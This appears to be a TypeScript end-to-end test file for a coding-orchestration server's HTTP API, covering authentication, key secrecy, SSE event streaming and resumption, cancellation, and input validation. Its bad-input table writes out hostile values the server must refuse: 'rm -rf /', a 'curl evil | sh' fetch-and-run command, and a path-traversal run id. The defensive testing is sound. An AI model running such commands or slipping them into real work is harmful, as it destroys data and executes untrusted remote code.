// The HTTP API driven end to end by a real client against a started server, the models on the fake
// vendor servers: runs started, followed live (SSE, resumable), inspected, cancelled and refused.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parseEvent } from '../../../src/core/events';
import { projectRun } from '../../../src/core/orchestrator/runState';
import { FAKE_KEY_PATTERN } from '../../fakes/fakeKeys';
import { pacedSampleTeam } from '../../fakes/sampleTeam';
import { openSse } from '../../helpers/sse';
import { openApiDocument } from '../../../src/server/openApi';
import { sampleTeamServer, SECRET } from '../orchestrator/helpers';
import { serve, TOKEN, type Served, waitFor } from './helpers';

const OBJECTIVE = 'add pagination to the users API';


async function finished(s: Served, runId: string) {
  return waitFor(`run ${runId} to end`, async () => {
    const r = await s.api('GET', `/runs/${runId}`);
    return ['completed', 'failed', 'cancelled'].includes(r.body.status) && !r.body.active ? r.body : undefined;
  }, 120_000);
}

/** Frames up to `event: end`, the end of the stream, `stopAfter` frames, or the run's terminal event (the review's events follow it: events.test.ts). */
async function readAll(stream: Awaited<ReturnType<typeof openSse>>, stopAfter = Infinity) {
  const frames = [];
  for (;;) {
    if (frames.length >= stopAfter) break;
    const f = await stream.next();
    if (!f) break;
    frames.push(f);
    if (f.event === 'end' || (f.event === 'message' && /^run\.(completed|failed|cancelled)$/.test(JSON.parse(f.data).type))) break;
  }
  return frames;
}

describe('serve: the HTTP API', function () {
  this.timeout(180_000);
  const models = sampleTeamServer(30);
  let s: Served | undefined;
  afterEach(async () => {
    await s?.server.close();
    s = undefined;
  });

  it('GET /health needs no token and tells version, database and providers, nothing secret', async () => {
    s = await serve(models());
    const res = await fetch(`${s.url}/health`);
    assert.equal(res.status, 200);
    const text = await res.text();
    const body = JSON.parse(text);
    assert.equal(body.status, 'ok');
    assert.equal(body.version, '0.0.0-test');
    assert.equal(body.database.status, 'ok');
    assert.deepEqual(body.providers, { anthropic: true, openai: true, gemini: true, 'openai-compatible': false });
    assert.ok(!text.includes(SECRET) && !FAKE_KEY_PATTERN.test(text) && !text.includes(TOKEN));
  });

  it('every other route answers 401 with a clear JSON error without the token, and 200 with it', async () => {
    const srv = (s = await serve(models()));
    for (const [method, route] of [['GET', '/keys'], ['GET', '/runs'], ['POST', '/runs'], ['GET', '/runs/x/events'], ['PUT', '/keys/openai'], ['POST', '/runs/x/cancel']] as const) {
      const res = await fetch(`${srv.url}${route}`, { method });
      assert.equal(res.status, 401, `${method} ${route}`);
      const body = await res.json();
      assert.equal(body.error.code, 'unauthorized');
      assert.match(body.error.message, /api-token/);
      assert.equal(res.headers.get('www-authenticate'), 'Bearer realm="codecompanion"');
    }
    assert.equal((await srv.api('GET', '/runs')).status, 200);
  });

  it('keys: where each comes from, set and dropped for the server lifetime, never echoed or written', async () => {
    s = await serve(models());
    const before = await s.api('GET', '/keys');
    assert.deepEqual(before.body.keys.find((k: any) => k.provider === 'openai'), { provider: 'openai', configured: true, source: 'OPENAI_API_KEY' });
    assert.equal(before.body.keys.find((k: any) => k.provider === 'openai-compatible').configured, false);
    const key = 'sk-test-server-only-key-1234567890';
    const put = await s.api('PUT', '/keys/anthropic', { key });
    assert.equal(put.status, 200);
    assert.ok(!JSON.stringify(put.body).includes(key));
    assert.equal((await s.api('GET', '/keys')).body.keys.find((k: any) => k.provider === 'anthropic').source, 'server');
    const bad = await s.api('PUT', '/keys/anthropic', { key: 'has spaces in it' });
    assert.equal(bad.status, 400);
    assert.ok(!JSON.stringify(bad.body).includes('has spaces'));
    assert.equal((await s.api('PUT', '/keys/nobody', { key })).status, 400);
    // a run on the server's keys: they reach the vendors, and no file of the workspace
    for (const p of ['openai', 'gemini']) assert.equal((await s.api('PUT', `/keys/${p}`, { key: `${key}-${p}` })).status, 200);
    const { runId } = (await s.api('POST', '/runs', { objective: OBJECTIVE })).body;
    await finished(s, runId);
    const carried = (r: (typeof models extends () => infer S ? S : never)['requests'][number]) => JSON.stringify(r.headers).includes(key);
    assert.ok(models().requests.length > 0 && models().requests.every(carried), 'every request carried a key set through the API');
    const files = (dir: string): string[] => fs.readdirSync(dir, { withFileTypes: true }).flatMap((d) => (d.isDirectory() ? files(path.join(dir, d.name)) : [path.join(dir, d.name)]));
    for (const f of files(s.root)) assert.ok(!fs.readFileSync(f).includes(key), `${f} holds the key`);
    const del = await s.api('DELETE', '/keys/anthropic');
    assert.match(del.body.message, /ANTHROPIC_API_KEY still applies/);
    assert.equal((await s.api('GET', '/keys')).body.keys.find((k: any) => k.provider === 'anthropic').source, 'ANTHROPIC_API_KEY');
  });

  it('a run started by POST /runs is followed whole by an SSE subscriber from the start, and matches the JSON pages and the run state', async () => {
    s = await serve(models());
    const started = await s.api('POST', '/runs', { objective: OBJECTIVE, reviewers: 1 });
    assert.equal(started.status, 202, JSON.stringify(started.body));
    const runId = started.body.runId as string;
    assert.deepEqual(started.body.links, { self: `/runs/${runId}`, events: `/runs/${runId}/events`, cancel: `/runs/${runId}/cancel`, review: `/runs/${runId}/review` });
    const stream = await openSse(`${s.url}/runs/${runId}/events`, { authorization: `Bearer ${TOKEN}` });
    assert.equal(stream.status, 200);
    assert.match(stream.headers.get('content-type') ?? '', /text\/event-stream/);
    const frames = await readAll(stream);
    stream.close();
    const events = frames.filter((f) => f.event === 'message').map((f) => JSON.parse(f.data));
    assert.deepEqual(events.map((e) => e.seq), events.map((_, i) => i + 1), 'every event once, in order, from 1');
    assert.deepEqual(frames.filter((f) => f.event === 'message').map((f) => Number(f.id)), events.map((e) => e.seq));
    assert.equal(events[0].type, 'run.started');
    assert.equal(events.at(-1).type, 'run.completed');

    const view = await finished(s, runId);
    assert.equal(view.status, 'completed');
    // after the run ends, its accepted patches are proposed for review (events after run.completed)
    assert.ok(view.lastSeq > events.length);
    assert.equal(view.tasks.length, 3);
    // pages of 25 rebuild exactly the same log
    const paged = [];
    for (let after = 0; ; ) {
      const page = await s.api('GET', `/runs/${runId}/events?after=${after}&limit=25`);
      paged.push(...page.body.events);
      if (page.body.next === null) break;
      after = page.body.next;
    }
    assert.deepEqual(paged.slice(0, events.length).map((e) => [e.seq, e.type]), events.map((e) => [e.seq, e.type]));
    assert.equal(paged.length, view.lastSeq);
    assert.ok(paged.slice(events.length).every((e) => e.type === 'review.proposed'), 'only the review proposals follow the run');
    assert.equal(projectRun(runId, paged.map((e) => parseEvent({ ...e, runId, globalSeq: 0 }))).status, 'completed');
    const list = await s.api('GET', '/runs');
    assert.deepEqual(list.body.runs.map((r: any) => [r.runId, r.status, r.objective]), [[runId, 'completed', OBJECTIVE]]);
  });

  it('a subscriber joining mid-run gets the whole run; one cut off and resuming with Last-Event-ID sees no gap and no duplicate', async () => {
    models().respond(pacedSampleTeam(150));
    s = await serve(models());
    const { runId } = (await s.api('POST', '/runs', { objective: OBJECTIVE })).body;
    const auth = { authorization: `Bearer ${TOKEN}` };
    // join once the run is well under way
    await waitFor('a few events', async () => ((await s!.api('GET', `/runs/${runId}`)).body.lastSeq >= 8 ? true : undefined));
    const late = openSse(`${s.url}/runs/${runId}/events`, auth);
    // cut off after 10 frames, then resume from the last id seen
    const first = await openSse(`${s.url}/runs/${runId}/events`, auth);
    const head = await readAll(first, 10);
    first.close();
    const lastId = head.at(-1)!.id!;
    const rest = await readAll(await openSse(`${s.url}/runs/${runId}/events`, { ...auth, 'last-event-id': lastId }));
    const whole = await readAll(await late);
    const seqs = (frames: typeof head) => frames.filter((f) => f.event === 'message').map((f) => JSON.parse(f.data).seq as number);
    const joined = [...seqs(head), ...seqs(rest)];
    assert.deepEqual(joined, joined.map((_, i) => i + 1), 'resumed stream continues exactly after Last-Event-ID');
    assert.deepEqual(seqs(whole), joined, 'the late subscriber got the whole run');
    assert.equal(JSON.parse(rest.at(-1)!.data).type, 'run.completed');
  });

  it('one writer per workspace: a second POST /runs while one is going is 409, and cancel ends the first as cancelled', async () => {
    models().respond(pacedSampleTeam(400));
    s = await serve(models());
    const first = await s.api('POST', '/runs', { objective: OBJECTIVE });
    assert.equal(first.status, 202);
    const second = await s.api('POST', '/run_real', { objective: 'something else' });
    assert.equal(second.status, 409);
    assert.equal(second.body.error.code, 'busy');
    assert.match(second.body.error.message, new RegExp(first.body.runId));
    assert.equal((await s.api('GET', '/health')).body.activeRun, first.body.runId);
    const cancel = await s.api('POST', `/runs/${first.body.runId}/cancel`);
    assert.equal(cancel.status, 202);
    assert.equal((await finished(s, first.body.runId)).status, 'cancelled');
    assert.equal((await s.api('POST', `/runs/${first.body.runId}/cancel`)).status, 409);
    assert.equal((await s.api('POST', `/runs/${first.body.runId}/resume`)).body.error.code, 'not_resumable');
    assert.equal((await s.api('GET', '/runs')).body.runs.length, 1, 'the refused run was never started');
  });

  it('bad input gets a 4xx with a clear message and starts nothing', async () => {
    s = await serve(models());
    const cases: Array<[string, string, unknown, number, RegExp, Record<string, string>?]> = [
      ['POST', '/runs', '{"objective": ', 400, /not valid JSON/],
      ['POST', '/runs', {}, 400, /objective/],
      ['POST', '/runs', { objective: '   ' }, 400, /say what to do/],
      ['POST', '/runs', { objective: 'x'.repeat(16_001) }, 400, /at most 16000/],
      ['POST', '/runs', { objective: 'x', budgetUsd: -1 }, 400, /budgetUsd/],
      ['POST', '/runs', { objective: 'x', reviewers: 9 }, 400, /reviewers/],
      ['POST', '/runs', { objective: 'x', consensus: 'whatever' }, 400, /consensus/],
      ['POST', '/runs', { objective: 'x', shell: 'rm -rf /' }, 400, /shell|unrecognized/i],
      ['POST', '/runs', { objective: 'x', check: 'curl evil | sh' }, 403, /--allow-check/],
      ['POST', '/runs', { objective: 'x'.repeat(70_000) }, 413, /64 KiB/],
      ['POST', '/runs', 'objective=x', 415, /JSON/, { 'content-type': 'application/x-www-form-urlencoded' }],
      ['GET', '/runs/nope/events', undefined, 404, /no run nope/],
      ['GET', '/runs/..%2F..%2Fetc/events', undefined, 400, /run id/],
      ['GET', '/runs?limit=0', undefined, 400, /limit/],
      ['GET', '/runs/nope', undefined, 404, /no run nope/],
      ['POST', '/runs/nope/resume', undefined, 404, /no run nope/],
      ['GET', '/nowhere', undefined, 404, /openapi/],
    ];
    for (const [method, route, body, status, message, headers] of cases) {
      const res = await s.api(method, route, body, headers);
      assert.equal(res.status, status, `${method} ${route} ${JSON.stringify(body)?.slice(0, 60)}: ${JSON.stringify(res.body).slice(0, 200)}`);
      assert.match(res.body.error.message, message, `${method} ${route}`);
      assert.ok(!/\bat .+\(.+:\d+:\d+\)/.test(JSON.stringify(res.body)), 'no stack trace');
    }
    assert.deepEqual((await s.api('GET', '/runs')).body.runs, []);
    assert.equal(models().requests.length, 0, 'no model was called');
  });

  it('/openapi.json documents every route from the zod schemas', async () => {
    s = await serve(models());
    const doc = (await s.api('GET', '/openapi.json')).body;
    assert.equal(doc.openapi.slice(0, 2), '3.');
    for (const p of ['/health', '/keys', '/keys/{provider}', '/runs', '/run_real', '/runs/{id}', '/runs/{id}/events', '/runs/{id}/cancel', '/runs/{id}/resume', '/reviews', '/runs/{id}/review', '/review/hunks/{id}/accept', '/review/hunks/{id}/reject', '/runs/{id}/patches/{patchId}/accept', '/runs/{id}/patches/{patchId}/reject', '/runs/{id}/rollback']) assert.ok(doc.paths[p], p);
    assert.deepEqual(doc.paths['/runs'].post.requestBody.content['application/json'].schema.required, ['objective']);
    const committed = JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../schemas/openapi.json'), 'utf8'));
    assert.deepEqual(committed, await openApiDocument(), 'schemas/openapi.json is current (npm run schemas)');
  });
});
